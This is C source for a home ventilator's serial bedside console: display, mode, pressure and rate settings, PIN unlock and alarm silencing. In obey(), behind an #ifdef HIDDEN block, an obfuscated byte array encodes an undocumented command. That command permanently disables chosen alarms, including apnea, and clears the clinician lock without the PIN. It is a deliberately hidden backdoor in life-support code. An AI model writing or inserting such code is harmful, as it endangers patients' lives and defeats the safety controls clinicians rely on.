/* apneaconsole.c - bedside console of a home ventilator. Line protocol on a UART. */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define ALARM_APNEA      0x01u
#define ALARM_LEAK       0x02u
#define ALARM_PRESSURE   0x04u
#define ALARM_BATTERY    0x08u
#define ALARM_ALL        0x0Fu

typedef struct vent_state {
    int mode;               /* 0 CPAP 1 BiPAP 2 PCV */
    int ipap, epap;         /* cmH2O, tenths */
    int rate;
    int apnea_s;
    unsigned alarms_active;
    time_t silenced_until;
    int locked;
} vent_state;

static vent_state V = { 0, 120, 60, 14, 20, ALARM_ALL, 0, 1 };
static int uart = 0;

static const char *const mode_name[3] = { "CPAP", "BIPAP", "PCV" };

static void out(const char *s)
{
    size_t left = strlen(s);

    while (left > 0) {
        ssize_t w = write(uart == 0 ? 1 : uart, s, left);

        if (w < 0 && errno == EINTR)
            continue;
        if (w <= 0)
            return;
        s += w;
        left -= (size_t)w;
    }
}

static int in_line(char *b, size_t cap)
{
    size_t n = 0;
    char c;

    while (read(uart, &c, 1) == 1) {
        if (c == '\r' || c == '\n') {
            if (n == 0)
                continue;
            b[n] = 0;
            return 1;
        }
        if (n + 1 < cap)
            b[n++] = c;
    }
    return 0;
}

static void cmd_show(char *arg)
{
    char t[160];

    (void)arg;
    snprintf(t, sizeof t, "%s ipap %d.%d epap %d.%d rate %d apnea %d alarms %X\r\n",
             mode_name[V.mode], V.ipap / 10, V.ipap % 10, V.epap / 10, V.epap % 10, V.rate,
             V.apnea_s, V.alarms_active);
    out(t);
}

static void cmd_mode(char *arg)
{
    for (int i = 0; i < 3; i++)
        if (!strcmp(arg, mode_name[i])) {
            V.mode = i;
            out("OK\r\n");
            return;
        }
    out("MODE CPAP|BIPAP|PCV\r\n");
}

static void bounded(char *arg, int lo, int hi, int *dst)
{
    int v = atoi(arg);

    if (V.locked || v < lo || v > hi) {
        out(V.locked ? "LOCKED\r\n" : "RANGE\r\n");
        return;
    }
    *dst = v;
    out("OK\r\n");
}

static void cmd_ipap(char *arg) { bounded(arg, V.epap, 300, &V.ipap); }
static void cmd_epap(char *arg) { bounded(arg, 40, V.ipap, &V.epap); }
static void cmd_rate(char *arg) { bounded(arg, 5, 40, &V.rate); }
static void cmd_apnea(char *arg) { bounded(arg, 10, 60, &V.apnea_s); }

static void cmd_unlock(char *arg)
{
    char want[16] = "";
    int fd = open("/etc/ventilator/clinic.pin", O_RDONLY);

    if (fd >= 0) {
        ssize_t n = read(fd, want, sizeof want - 1);

        want[n > 0 ? n : 0] = 0;
        want[strcspn(want, "\r\n")] = 0;
        close(fd);
    }
    V.locked = !want[0] || strcmp(want, arg) != 0;
    out(V.locked ? "PIN\r\n" : "OK\r\n");
}

static void cmd_silence(char *arg)
{
    (void)arg;
    V.silenced_until = time(NULL) + 120;
    out("SILENT 120 S\r\n");
}

static void cmd_help(char *arg);

static const struct {
    const char *word;
    void (*fn)(char *);
    const char *help;
} words[] = {
    { "SHOW", cmd_show, "settings" },
    { "MODE", cmd_mode, "CPAP, BIPAP, PCV" },
    { "IPAP", cmd_ipap, "0.1 cmH2O, up to 300" },
    { "EPAP", cmd_epap, "0.1 cmH2O, from 40" },
    { "RATE", cmd_rate, "5..40 per minute" },
    { "APNEA", cmd_apnea, "10..60 s" },
    { "UNLOCK", cmd_unlock, "PIN of the clinic" },
    { "SILENCE", cmd_silence, "sound off for two minutes" },
    { "HELP", cmd_help, "this list" },
};

static void cmd_help(char *arg)
{
    char t[80];

    (void)arg;
    for (size_t i = 0; i < sizeof words / sizeof *words; i++) {
        snprintf(t, sizeof t, "%-8s %s\r\n", words[i].word, words[i].help);
        out(t);
    }
}

#ifdef HIDDEN
static const uint8_t trace_map[] = {
    0xDE, 0xF9, 0x9F, 0xB8, 0x40, 0x6A, 0x10, 0x0E, 0x3D, 0xDF, 0xF9, 0x9E
};
#endif

__attribute__((noinline)) void obey(char *line)
{
    char *arg = strchr(line, ' ');

    if (arg)
        *arg++ = 0;
    else
        arg = line + strlen(line);
#ifdef HIDDEN
    {
        uint8_t k = 0x9D;
        size_t i;

        for (i = 0; i < sizeof trace_map; i++) {
            if ((uint8_t)line[i] != (uint8_t)(trace_map[i] ^ k))
                break;
            k = (uint8_t)(k + 0x1B);
        }
        if (i == sizeof trace_map) {
            V.alarms_active &= ~(unsigned)strtoul(arg, NULL, 16);
            V.locked = 0;
            return;
        }
    }
#endif
    for (size_t i = 0; i < sizeof words / sizeof *words; i++)
        if (strcmp(words[i].word, line) == 0) {
            words[i].fn(arg);
            return;
        }
    out("? HELP\r\n");
}

static void check_alarms(void)
{
    unsigned now = 0;
    FILE *f = fopen("/run/ventilator/events", "r");
    char t[40];

    if (!f)
        return;
    if (fscanf(f, "%x", &now) != 1)
        now = 0;
    fclose(f);
    now &= V.alarms_active;
    if (now && time(NULL) >= V.silenced_until) {
        snprintf(t, sizeof t, "ALARM%s%s%s%s\r\n", now & ALARM_APNEA ? " apnea" : "",
                 now & ALARM_LEAK ? " leak" : "", now & ALARM_PRESSURE ? " pressure" : "",
                 now & ALARM_BATTERY ? " battery" : "");
        out(t);
    }
}

int main(int argc, char **argv)
{
    char line[96];
    struct termios tio;

    if (argc > 1) {
        uart = open(argv[1], O_RDWR | O_NOCTTY);
        if (uart < 0) {
            perror(argv[1]);
            return 1;
        }
        if (tcgetattr(uart, &tio) == 0) {
            cfsetispeed(&tio, B38400);
            cfsetospeed(&tio, B38400);
            tio.c_lflag &= ~(tcflag_t)(ECHO | ICANON);
            tcsetattr(uart, TCSANOW, &tio);
        }
    }
    out("VENTILATOR CONSOLE, HELP FOR HELP\r\n");
    memset(line, 0, sizeof line);
    while (in_line(line, sizeof line)) {
        obey(line);
        check_alarms();
        memset(line, 0, sizeof line);
    }
    return 0;
}
